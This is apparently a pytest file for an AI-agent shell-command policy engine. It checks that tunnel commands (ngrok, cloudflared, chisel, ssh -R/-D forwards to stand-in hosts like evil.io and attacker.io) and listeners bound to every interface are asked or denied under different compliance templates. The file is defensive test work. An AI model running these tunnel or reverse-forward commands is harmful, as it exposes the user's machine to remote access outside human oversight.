"""A way into the machine from outside, under the session templates (issue 13, twenty-ninth
sitting): a tunnel that puts a local port on the internet (ngrok, cloudflared, localtunnel, bore,
frp, chisel, inlets, pagekite, ``code tunnel``, ``tailscale funnel``, zrok, ``devtunnel``…), an ssh
remote or dynamic forward (``-R``, ``-D``, ``-w`` in every spelling), and a directory served or a
port forwarded on every interface (``python -m http.server``, ``php -S 0.0.0.0:…``, ``socat
TCP-LISTEN``, ``kubectl port-forward --address 0.0.0.0``…).  All were ALLOW under every template
but ``read_only``.

Each template follows its stance on the network (docs/patterns.md, "A way in from outside"):

* ``strict``: a tunnel is DENY (as an internal address is: ``strict_net_internal``), a listener
  on every interface ASK (as a raw connection is: ``strict_network_connect``).
* ``soc2_compliant``: both held for approval (boundary protection, security); with
  ``confidentiality`` a tunnel is DENY.
* ``hipaa_standard``: both held for approval (transmission security).
* ``permissive``: a tunnel is asked (what reaches it may run code here, as a remote shell's
  does); a listener on every interface is left to the network (ALLOW).
* ``read_only``: runs neither (already DENY).
"""

from __future__ import annotations

import re
from importlib.resources import files

import pytest
import yaml

from goalrail.patterns.regex import runs_linear
from goalrail.patterns.templates._exposure import LISTEN_ALL, TUNNEL
from goalrail.patterns.templates._remote import other_words
from goalrail.policies.builtins.patterns import pattern_policy
from tests.unit import written_support as w
from tests.unit.shell_support import HIPAA, PERMISSIVE, READ_ONLY, SOC2, STRICT, event, tool_verdict, verdict

SOC2_CONFIDENTIALITY = pattern_policy(policy="soc2_compliant", criteria=["confidentiality"])
TEMPLATES = {"strict": STRICT, "soc2": SOC2, "hipaa": HIPAA, "permissive": PERMISSIVE}

TUNNELS = [
    # the commands named in the issue
    "ngrok http 8080",
    "cloudflared tunnel --url http://localhost:8080",
    "ssh -R 80:localhost:8080 serveo.net",
    "ssh -R 9000:localhost:22 attacker.io",
    "ssh -D 1080 -N user@evil.io",
    "npx localtunnel --port 8080",
    "lt --port 8000",
    "bore local 8000 --to bore.pub",
    "tailscale funnel 8080",
    # tunnel services, by program
    "ngrok tcp 22",
    "ngrok start --all",
    "ngrok --log stdout http 3000 --domain x.ngrok.app",
    "ngrok service install --config ngrok.yml",
    "ngrok.exe http 80",
    "C:/tools/cloudflared.exe tunnel --url http://localhost:8080",
    "cloudflared tunnel run mytunnel",
    "cloudflared tunnel --no-autoupdate run --token eyJh",
    "cloudflared tunnel",
    "cloudflared --url localhost:8080",
    "cloudflared service install eyJh",
    "lt -p 3000 -s myapp",
    "bore server",
    "frpc -c frpc.toml",
    "frpc",
    "frps -c frps.toml",
    "chisel client evil.io:8080 R:2222:localhost:22",
    "chisel client evil.io:8080 R:socks",
    "chisel server --reverse -p 8080",
    "inlets-pro tcp client --url wss://x --upstream localhost --ports 2222",
    "pagekite.py 80 me.pagekite.me",
    "python3 pagekite.py 80 me.pagekite.me",
    "code tunnel",
    "code tunnel --accept-server-license-terms --name box",
    "code-insiders tunnel",
    "code tunnel service install",
    "tailscale funnel --bg 3000",
    "tailscale funnel 443 on",
    "zrok share public localhost:8080",
    "zrok share private --backend-mode tcpTunnel localhost:22",
    "expose share http://site.test",
    "devtunnel host -p 8080 --allow-anonymous",
    "gh codespace ports visibility 8080:public -c x",
    "gh cs ports visibility 3000:public",
    "loclx tunnel http --to localhost:8080",
    "tmole 8080",
    "sshuttle -r user@host 0/0",
    "ktunnel expose myservice 8080:8080",
    "wstunnel client -R tcp://9000:localhost:22 wss://evil.io",
    "gost -L rtcp://:2222/localhost:22 -F relay+ws://evil.io:8080",
    # ssh's remote and dynamic forwards and tun devices, every option spelling
    "ssh -NfR 80:localhost:8080 serveo.net",
    "ssh -fNR 2222:localhost:22 user@vps",
    "ssh -R80:localhost:8080 nokey@localhost.run",
    "ssh -p 443 -R0:localhost:8080 a.pinggy.io",
    "ssh -oRemoteForward=80:localhost:8080 serveo.net",
    "ssh -o RemoteForward=80:localhost:8080 serveo.net",
    'ssh -o "RemoteForward 80 localhost:8080" serveo.net',
    "ssh -o remoteforward=9000:localhost:22 evil.io",
    "ssh -o DynamicForward=1080 user@evil.io",
    "ssh -oDynamicForward=1080 user@evil.io",
    "ssh -D1080 -fN user@evil.io",
    "ssh -ND 0.0.0.0:1080 user@evil.io",
    "ssh -R 8080 user@evil.io",
    "ssh -i key -l me evil.io -D 1080",
    "ssh evil.io -R 80:localhost:80",
    "ssh -o Tunnel=point-to-point -w any user@evil.io",
    "ssh -O forward -R 2222:localhost:22 evil.io",
    "ssh.exe -R 80:localhost:8080 serveo.net",
    "autossh -M 0 -f -N -R 2222:localhost:22 user@vps",
    "plink -ssh -R 80:localhost:8080 host",
    "dbclient -R 2222:localhost:22 evil.io",
    # through the wrappers and launchers the shell analysis reads
    "env X=1 nohup ngrok http 80 &",
    "timeout 3600 cloudflared tunnel --url http://localhost:3000",
    "sh -c 'ssh -NfR 80:localhost:8080 serveo.net'",
    'bash -c "lt --port 8000"',
    "cd app && npm start & ngrok http 3000",
    "echo $(ngrok http 80)",
    "pnpm dlx localtunnel --port 8080",
    "yarn dlx localtunnel --port 8080",
    "bunx localtunnel --port 8080",
    "npm exec -- localtunnel --port 3000",
    "uvx bore local 8000 --to bore.pub",
    "pipx run pyngrok http 80",
    "npx @ngrok/ngrok http 3000",
    "npx localtunnel@2.0.2 --port 80",
    "npx -p localtunnel lt --port 80",
    "docker run --rm -it -e NGROK_AUTHTOKEN=x ngrok/ngrok:latest http 80",
    "docker run cloudflare/cloudflared:latest tunnel --no-autoupdate run --token x",
    "watch ngrok http 80",
    "NGROK_AUTHTOKEN=x ngrok http 80",
    "for p in 80; do ngrok http $p; done",
    "ssh -R $PORT:localhost:22 evil.io",
    "ssh -o ExitOnForwardFailure=yes -R 80:localhost:8080 serveo.net",
    "ssh user@host -p 2222 -R 8080:localhost:80",
    "ssh -J jump -fN -R 2222:localhost:22 vps",
    "/usr/local/bin/ngrok http 80",
    "'ngrok' \"http\" 80",
    "echo 'ngrok http 80' > t.sh && sh t.sh",
    "ssh box 'ngrok http 80'",
    "xargs -I{} ngrok http {}",
    "cmd /c ngrok http 80",
    'powershell -c "ngrok http 80"',
]
LISTENERS = [
    "python -m http.server 8000 --bind 0.0.0.0",
    "python -m http.server",
    "python3 -m http.server 8000",
    "python3 -m http.server -b 0.0.0.0",
    "python3 -m http.server --bind=0.0.0.0 8000",
    "python3 -m http.server --bind :: 8000",
    "python3 -m http.server --directory dist 9000",
    "python3.12 -m http.server",
    "python -u -m http.server",
    "python2 -m SimpleHTTPServer 8000",
    "uv run python -m http.server",
    "nohup python3 -m http.server 8000 > /dev/null 2>&1 &",
    "py -m http.server",
    "npx http-server@14 -p 8080",
    "pnpm exec http-server",
    "php -S 0.0.0.0:8000",
    "php -S 0.0.0.0:8000 -t public",
    "php -t public -S 192.168.1.5:80",
    "ruby -run -e httpd . -p 8000",
    "ruby -run -e httpd -- --bind-address=0.0.0.0 .",
    "npx http-server",
    "npx http-server -p 8080 -a 0.0.0.0",
    "npx -y http-server dist -c-1",
    "http-server ./public",
    "busybox httpd -f -p 8080",
    "busybox httpd -p 0.0.0.0:80 -h /srv",
    "socat TCP-LISTEN:8080,fork TCP:localhost:80",
    "socat tcp-l:2222,reuseaddr,fork tcp:localhost:22",
    "socat TCP4-LISTEN:5432,fork,reuseaddr TCP4:db.internal:5432",
    "socat UDP-LISTEN:53,fork UDP:8.8.8.8:53",
    "socat TCP-LISTEN:8080,bind=0.0.0.0,fork TCP:localhost:80",
    "kubectl port-forward --address 0.0.0.0 svc/x 8080:80",
    "kubectl port-forward svc/x 8080:80 --address=0.0.0.0",
    "kubectl port-forward svc/x 8080:80 --address=localhost,0.0.0.0",
    "kubectl -n prod port-forward pod/db 5432 --address 0.0.0.0",
    "oc port-forward --address 0.0.0.0 pod/x 8080",
    "ssh -L 0.0.0.0:5432:db:5432 bastion",
    "ssh -L '*:5432:db:5432' bastion",
    "ssh -o GatewayPorts=yes -L 5432:db:5432 bastion",
    "tailscale serve 3000",
    "tailscale serve --bg https+insecure://localhost:8443",
    "jupyter lab --ip=0.0.0.0",
    "jupyter notebook --ip 0.0.0.0 --no-browser",
    "caddy file-server --listen :8080 --browse",
    "caddy reverse-proxy --from example.com --to localhost:3000",
    "netsh interface portproxy add v4tov4 listenport=80 connectaddress=127.0.0.1",
    "sh -c 'python3 -m http.server 9000'",
    "echo 'php -S 0.0.0.0:8000' > serve.sh && bash serve.sh",
]
#: local-only forms and everyday commands: today's verdict under each template (strict's where it
#: differs from ALLOW; soc2, hipaa and permissive ALLOW)
CONTROLS = {
    "ssh -L 5432:db:5432 bastion": "ASK",  # a local forward: strict's raw connection to db:5432
    "ssh -L 127.0.0.1:5432:db:5432 bastion": "ASK",
    "ssh -L localhost:5432:db:5432 bastion": "ASK",
    "ssh -NL 8080:localhost:80 host": "ASK",
    "socat TCP-LISTEN:8080,bind=127.0.0.1,fork TCP:localhost:80": "ASK",
    "socat - TCP:localhost:6379": "ASK",
    "code tunnel --help": "ASK",  # strict asks of `code` already (it writes outside the workspace)
    "code tunnel status": "ASK",
    "code tunnel user login --provider github": "ASK",
    "python -m http.server --bind 127.0.0.1": "ALLOW",
    "python3 -m http.server 8000 -b 127.0.0.1": "ALLOW",
    "python3 -m http.server --bind=localhost 8000": "ALLOW",
    "python -m http.server 8000 --bind ::1": "ALLOW",
    "npm run dev": "ALLOW",
    "ngrok version": "ALLOW",
    "ngrok --version": "ALLOW",
    "ngrok config add-authtoken x": "ALLOW",
    "ngrok http --help": "ALLOW",
    "cloudflared --help": "ALLOW",
    "cloudflared version": "ALLOW",
    "cloudflared tunnel list": "ALLOW",
    "cloudflared tunnel login": "ALLOW",
    "cloudflared tunnel create x": "ALLOW",
    "cloudflared tunnel --help": "ALLOW",
    "cloudflared access tcp --hostname h --url localhost:2222": "ALLOW",
    "ssh host ls": "ALLOW",
    "ssh host ls -R /tmp": "ALLOW",
    "ssh -v host ls -R": "ALLOW",
    "ssh -i key host": "ALLOW",
    "ssh -A host": "ALLOW",
    "scp -r dir host:x": "ALLOW",
    "kubectl port-forward svc/x 8080:80": "ALLOW",
    "kubectl port-forward --address 127.0.0.1 svc/x 8080:80": "ALLOW",
    "kubectl port-forward svc/x 8080:80 --address localhost": "ALLOW",
    "php -S localhost:8000": "ALLOW",
    "php -S 127.0.0.1:8000 -t public": "ALLOW",
    "php artisan serve": "ALLOW",
    "ruby -run -e httpd . -p 8000 --bind-address=127.0.0.1": "ALLOW",
    "http-server -a 127.0.0.1 -p 8080": "ALLOW",
    "npx http-server -a localhost": "ALLOW",
    "tailscale status": "ALLOW",
    "tailscale funnel status": "ALLOW",
    "tailscale funnel reset": "ALLOW",
    "tailscale funnel 3000 off": "ALLOW",
    "tailscale serve status": "ALLOW",
    "zrok status": "ALLOW",
    "ltrace ls": "ALLOW",
    "bore --help": "ALLOW",
    "frpc verify -c frpc.toml": "ALLOW",
    "frpc --version": "ALLOW",
    "chisel client server:8080 3000:localhost:3000": "ALLOW",
    "gh codespace ports forward 8080:8080": "ALLOW",
    "gh codespace ports visibility 8080:private -c x": "ALLOW",
    "devtunnel list": "ALLOW",
    "jupyter lab": "ALLOW",
    "jupyter notebook --ip=127.0.0.1": "ALLOW",
    "nc -l 8080": "ALLOW",
    "sshuttle --help": "ALLOW",
    "echo ngrok http 80": "ALLOW",
    'grep -rn "ssh -R" docs': "ALLOW",
    "git status": "ALLOW",
    "git push origin main": "ALLOW",
    "pytest -q": "ALLOW",
    "npm test": "ALLOW",
    "ls -la": "ALLOW",
    "docker ps": "ALLOW",
    "docker run --rm alpine echo hi": "ALLOW",
    "docker pull ngrok/ngrok": "ALLOW",
    "cat src/app.py": "ALLOW",
    "python -m pytest": "ALLOW",
}

#: (lines, the answer per template)
CLASSES = {
    "tunnel": (TUNNELS, {"strict": "DENY", "soc2": "ASK", "hipaa": "ASK", "permissive": "ASK"}),
    "listen": (LISTENERS, {"strict": "ASK", "soc2": "ASK", "hipaa": "ASK", "permissive": "ALLOW"}),
}
CASES = [(kind, line) for kind, (lines, _answers) in CLASSES.items() for line in lines]


@pytest.mark.parametrize("name", TEMPLATES)
@pytest.mark.parametrize(("kind", "line"), CASES)
def test_each_template_answers_a_way_in_as_its_network_rules(name: str, kind: str, line: str) -> None:
    assert verdict(TEMPLATES[name], line) == CLASSES[kind][1][name]


@pytest.mark.parametrize(("kind", "line"), CASES)
def test_read_only_runs_neither(kind: str, line: str) -> None:
    assert verdict(READ_ONLY, line) == "DENY"


@pytest.mark.parametrize("line", TUNNELS)
def test_soc2_confidentiality_blocks_a_tunnel(line: str) -> None:
    assert verdict(SOC2_CONFIDENTIALITY, line) == "DENY"


@pytest.mark.parametrize("name", TEMPLATES)
@pytest.mark.parametrize("line", list(CONTROLS))
def test_local_only_forms_and_everyday_commands_keep_their_verdict(name: str, line: str) -> None:
    assert verdict(TEMPLATES[name], line) == (CONTROLS[line] if name == "strict" else "ALLOW")


@pytest.mark.parametrize("name", TEMPLATES)
@pytest.mark.parametrize(
    "line", ["sudo ngrok http 80", "sudo -E ssh -NfR 80:localhost:8080 serveo.net", "doas lt --port 80"]
)
def test_run_as_root_is_no_less_strict(name: str, line: str) -> None:
    assert verdict(TEMPLATES[name], line) in ("ASK", "DENY")


@pytest.mark.parametrize("name", TEMPLATES)
@pytest.mark.parametrize(
    ("tool", "arguments"),
    [
        ("shell", {"command": ["bash", "-lc", "ngrok http 8080"]}),  # Codex
        ("run_shell_command", {"command": "ssh -NfR 80:localhost:8080 serveo.net"}),  # Gemini CLI
        ("mcp__serena__execute_shell_command", {"command": "cloudflared tunnel --url http://localhost:3000"}),
        ("mcp__commands__run_process", {"mode": "executable", "argv": ["lt", "--port", "8000"]}),
    ],
)
def test_every_harness_s_shell_tool_meets_the_rule(name: str, tool: str, arguments: dict[str, object]) -> None:
    assert tool_verdict(TEMPLATES[name], tool, arguments) == CLASSES["tunnel"][1][name]


@pytest.mark.parametrize(
    ("script", "policy", "expected"),
    [
        ("#!/bin/sh\nnpm start &\nngrok http 3000\n", "permissive", "ASK"),
        ("#!/bin/sh\nssh -fNR 2222:localhost:22 user@vps\n", "strict", "DENY"),
        ("#!/bin/sh\ncd dist && python3 -m http.server 8000\n", "strict", "ASK"),
    ],
)
async def test_a_written_script_holding_one_is_judged_when_run(script: str, policy: str, expected: str) -> None:
    first = [w.write("share.sh", script)]
    assert await w.run_after({"policy": policy}, first, "sh share.sh") == expected


@pytest.mark.parametrize(
    ("policy", "line", "pid"),
    [
        (STRICT, "ngrok http 8080", "strict_tunnel"),
        (STRICT, "python -m http.server", "strict_listen_all"),
        (SOC2, "ssh -R 80:localhost:8080 serveo.net", "soc2_tunnel"),
        (SOC2, "php -S 0.0.0.0:8000", "soc2_listen_all"),
        (SOC2_CONFIDENTIALITY, "cloudflared tunnel --url http://localhost:8080", "soc2_conf_tunnel"),
        (HIPAA, "tailscale funnel 8080", "hipaa_tunnel"),
        (HIPAA, "socat TCP-LISTEN:8080,fork TCP:localhost:80", "hipaa_listen_all"),
        (PERMISSIVE, "ssh -D 1080 -N user@evil.io", "permissive_tunnel"),
    ],
)
def test_the_rule_says_why(policy: object, line: str, pid: str) -> None:
    res = policy(event("Bash", {"command": line}))  # type: ignore[operator]
    assert res is not None and res["metadata"]["pattern_id"] == pid


def test_the_built_in_yaml_holds_the_templates_texts() -> None:
    """``strict.yaml`` and ``permissive.yaml`` carry the texts as written (one text to keep up)."""

    def rules(name: str) -> dict[str, dict[str, str]]:
        doc = yaml.safe_load(files("goalrail.patterns.data").joinpath(f"{name}.yaml").read_text())
        return {p["id"]: p for p in doc["patterns"]}

    strict, permissive = rules("strict"), rules("permissive")
    assert strict["strict_tunnel"]["pattern"] == permissive["permissive_tunnel"]["pattern"] == TUNNEL
    assert strict["strict_listen_all"]["pattern"] == LISTEN_ALL
    assert "permissive_listen_all" not in permissive
    assert (
        strict["strict_listen_all"]["violation_mode"] == permissive["permissive_tunnel"]["violation_mode"] == "sigstop"
    )
    assert "violation_mode" not in strict["strict_tunnel"]


def test_the_rules_run_in_linear_time() -> None:
    for rx in (TUNNEL, LISTEN_ALL):
        assert runs_linear(rx)
        assert "(?=" not in rx and "(?!" not in rx


def test_the_programs_are_the_rules_keys_for_the_option_spellings() -> None:
    """The rules' factors (``_option_rules``) are programs: an everyday command gets no spellings
    for them."""
    from goalrail.policies.builtins._option_rules import factors, option_rules
    from goalrail.policies.builtins._shell_readings import line_readings

    for rule in (TUNNEL, LISTEN_ALL):
        assert factors(rule) is not None
    told = option_rules((TUNNEL, LISTEN_ALL))
    for line in ("tar -czf /tmp/src.tgz src/", "rm -rf build", "sort -o out in", "grep -rn x src"):
        assert line_readings(line).told(told.wanted) == (), line


@pytest.mark.parametrize(
    ("prefixes", "words"),
    [(("127.", "localhost", "::1"), ()), (("-b", "--b"), ("-h", "--help")), (("ab",), ("a", "abc"))],
    ids=["loopback", "bind", "nested"],
)
def test_other_words_is_every_word_not_so_prefixed(prefixes: tuple[str, ...], words: tuple[str, ...]) -> None:
    rx = re.compile(f"({other_words(prefixes, words)})")
    near = ["x", "-", "--", "1", "12", "127", "127.0.0.1", "128.0.0.1", "localhos", "localhost:80", "::", "::1"]
    near += ["-b", "-bind", "--bind", "--directory", "-d", "-h", "-hx", "--help", "--helpme", "a", "ab", "abc", "abd"]
    for word in [*prefixes, *words, *near]:
        expected = not any(word.startswith(p) for p in prefixes) and word not in words
        assert (rx.fullmatch(word) is not None) == expected, word
    assert rx.fullmatch("'x") is None
